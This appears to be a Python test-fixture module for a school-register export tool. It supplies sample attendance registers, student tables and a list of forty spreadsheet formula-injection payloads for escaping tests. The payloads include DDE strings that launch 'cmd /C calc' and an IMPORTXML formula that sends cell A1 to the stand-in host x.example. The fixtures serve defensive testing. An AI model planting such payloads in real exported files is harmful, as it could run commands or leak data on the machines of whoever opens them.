"""What the writing tests write: payloads that would be formulas, a register, a run's results."""

from datetime import date, timedelta
from typing import Final

from mbdesk.fields import Column, Kind, Table
from mbdesk.plan.plan import Outcome, PlannedRow
from mbdesk.plan.results import RowResult, RowStatus
from mbdesk.records.attendance import DayAttendance, Mark, StudentDay
from mbdesk.registers import GroupKind, Pupil, Register, register_of

_STARTS: Final = (
    "=1+1",
    '=HYPERLINK("http://x.example","Ana")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "=A1",
    "=",
    "==",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@x",
    "+",
    "-",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\n\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "Ana\n=1+1",
    "Ana\r\n+1+1",
    '"=1+1',
    "'=1+1",
    ";=1+1",
    "=1+1;2",
    ",=1+1",
    "%0A=1+1",
    "{=1+1}",
    "=\u200b1+1",
    "_x003D_1+1",
)
PAYLOADS: Final = _STARTS
"""Forty texts that some spreadsheet program might take for a formula."""

ODD_TEXTS: Final = (
    "00417",
    "+44 20 7946 0958",
    "'0012",
    "1E+05",
    "3/4",
    "TRUE",
    "#N/A",
    "  two blanks around  ",
    "line\nbreak",
    "carriage\r\nreturn",
    "<b>&amp;</b>",
    "http://x.example",
    "_x0041_ _x000D_",
    "張 伟 محمد Ñandú e\u0301 😀",
    "O'Brien & Sons",
    "\u202egpj.exe",
    "a" * 32_767,
    "—",
    "]]>",
)

TEXTS: Final = Table(
    title="Payloads: all/of them?",
    columns=(Column(title="Text", width=40), Column(title="Phone", kind=Kind.PHONE), Column(title="=Heading")),
    rows=tuple((text, text, text) for text in (*PAYLOADS, *ODD_TEXTS)),
)

VALUES: Final = Table(
    title="Students",
    columns=(
        Column(title="Name", width=26),
        Column(title="Student ID", kind=Kind.IDENTIFIER, width=12),
        Column(title="E-mail", kind=Kind.EMAIL, width=30),
        Column(title="Birthday", kind=Kind.DATE, width=12),
        Column(title="Classes", kind=Kind.NUMBER, width=8),
        Column(title="% present", kind=Kind.PERCENT, width=8),
        Column(title="Languages", kind=Kind.LIST),
        Column(title="Boarder", kind=Kind.YES_NO),
    ),
    rows=(
        ("Müller, Zoë", "00417", "zoe@x.example", date(2011, 4, 3), 12, 0.94, ("DE", "EN"), True),
        ("张, 伟", "00933", None, None, None, None, (), False),
        ("Silva, Ana", "1", "", date(1899, 12, 31), 1_200, 1.0, ("PT",), None),
    ),
    notes=("As of 8:12.",),
)


def register(title: str = "Biology 10/A", *, periods: bool = True) -> Register:
    """Three weeks with recorded, assumed and missing marks, and labels of the school's own."""
    pupils = [
        Pupil(id=1, name="Al-Hassan, Omar", student_id="00417"),
        Pupil(id=2, name="=HYPERLINK(1)", student_id="00418"),
        Pupil(id=3, name="Müller, Zoë", student_id="+419"),
        Pupil(id=4, name="Nobody, Recorded", student_id="00420"),
    ]
    kinds = [("Present", 1), ("Present", -1), ("Absent", 0), ("Late", 2), ("Excused", 13), ('Say "hi"', 77)]
    answers = []
    for step in range(21):
        day = date(2026, 1, 12) + timedelta(days=step)
        if day.weekday() > 4:
            continue
        marks = []
        for place, pupil in enumerate(pupils[:3]):
            label, number = kinds[(step * 5 + place * 2) % len(kinds)]
            note = "=feels ill" if step == 3 and place == 1 else ""
            mark = Mark(status=label, category=number, note=note)
            key = "2" if periods else ""
            marks.append(StudentDay(id=pupil.id, marks={} if (step + place) % 6 == 0 else {key: mark}))
        answers.append(DayAttendance(day=day, students=tuple(marks)))
    return register_of(
        title=title,
        kind=GroupKind.CLASS if periods else GroupKind.HOMEROOM,
        group_id=7,
        pupils=pupils,
        answers=answers,
        first=date(2026, 1, 12),
        last=date(2026, 2, 1),
        term="Term 2",
    )


COLUMNS: Final = ("Student ID", "Surname", "D.O.B.", "Status", "")
ROWS: Final = (
    PlannedRow(number=6, name="Ana Silva", outcome=Outcome.NEW, cells=("00417", "Silva ", "03/04/2011", "x", "")),
    PlannedRow(number=7, name="Ben Okoro", outcome=Outcome.NEW, cells=("00418", "=Okoro", "31/02/2011", "", "note")),
    PlannedRow(number=9, name="Xin Tan", outcome=Outcome.SAME, cells=("+419", "谭", "2011-04-03")),
    PlannedRow(number=10, name="Ana Silva", outcome=Outcome.LEFT_OUT, cells=("00417", "Silva", "03/04/2011", "", "")),
    PlannedRow(number=11, name="Mia Rossi", outcome=Outcome.NEW, cells=("00420", "Rossi", "01/05/2012", "", "")),
)
RESULTS: Final = (
    RowResult(number=6, status=RowStatus.DONE, what="Added.", id=11_077_001, at="2026-03-12T08:30:00+00:00"),
    RowResult(number=7, status=RowStatus.FAILED, what="=The date 31/02/2011 does not exist."),
    RowResult(number=9, status=RowStatus.UNCHANGED, what="Already the same.", id=11_000_002),
    RowResult(number=10, status=RowStatus.LEFT_OUT, what="The same child as in row 6."),
)
